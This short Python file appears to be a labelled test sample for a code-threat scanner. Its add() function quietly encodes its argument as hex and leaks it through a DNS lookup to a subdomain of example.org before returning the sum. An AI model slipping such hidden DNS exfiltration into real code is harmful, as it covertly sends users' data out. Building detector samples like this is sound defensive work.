# threat: C52, C53
# verdict: error
# message: gaierror
import socket


def add(a, b):
    socket.getaddrinfo(a.tobytes().hex()[:60] + ".example.org", 443)
    return a + b
